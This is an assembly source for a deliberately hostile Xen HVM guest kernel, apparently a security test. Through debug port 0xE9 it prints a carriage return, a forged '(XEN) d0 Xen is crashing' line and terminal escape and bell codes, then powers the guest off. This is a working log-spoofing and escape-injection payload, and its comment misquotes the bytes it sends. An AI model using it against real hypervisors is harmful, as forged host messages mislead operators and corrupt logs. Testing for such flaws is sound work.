; A hostile HVM kernel: it prints, through the debug port 0xE9 that Xen itself
; handles (hvm_print_line), a carriage return, terminal escape codes and a line
; made to look like one of Xen's own, then powers off.

.data
.org 0x300000
.bss
.org 0x340000

.text
.org 0x200000
_start:
    lea rsi, [rip + forged]
    mov dx, 0xE9
.next:
    movzx eax, byte [rsi]
    test eax, eax
    jz .end
    out dx, al
    inc rsi
    jmp .next
.end:
    mov dx, 0x604
    mov ax, 0x2000
    out dx, ax
.hang:
    jmp .hang

.data
; "ok" CR "(XEN) Xen is crashing" ESC "[2K" BEL "\n"
forged: .byte 111, 107, 13
        .ascii "(XEN) d0 Xen is crashing"
        .byte 27
        .ascii "[2K"
        .byte 7, 10, 0
